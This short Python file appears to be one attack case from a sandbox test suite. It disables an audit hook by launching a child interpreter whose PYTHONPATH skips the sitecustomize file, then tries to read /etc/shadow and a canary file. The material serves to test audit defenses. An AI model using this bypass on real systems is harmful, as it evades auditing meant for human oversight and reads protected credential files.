# attack: child_env_pythonpath
# class: 2
# category: hook_bypass
# kind: audit_tamper
# describe: start a child interpreter whose PYTHONPATH no longer names the boot dir (so no sitecustomize, no hook) but keeps OURO_AUDIT=1
import os
import subprocess
import sys

env = dict(os.environ, PYTHONPATH="/tmp")
child = "import json\nT = json.load(open('target.json'))\nfor p in ('/etc/shadow', T['canary_path']):\n    try: open(p).read()\n    except OSError: pass\n"
subprocess.run([sys.executable, "-c", child], env=env)
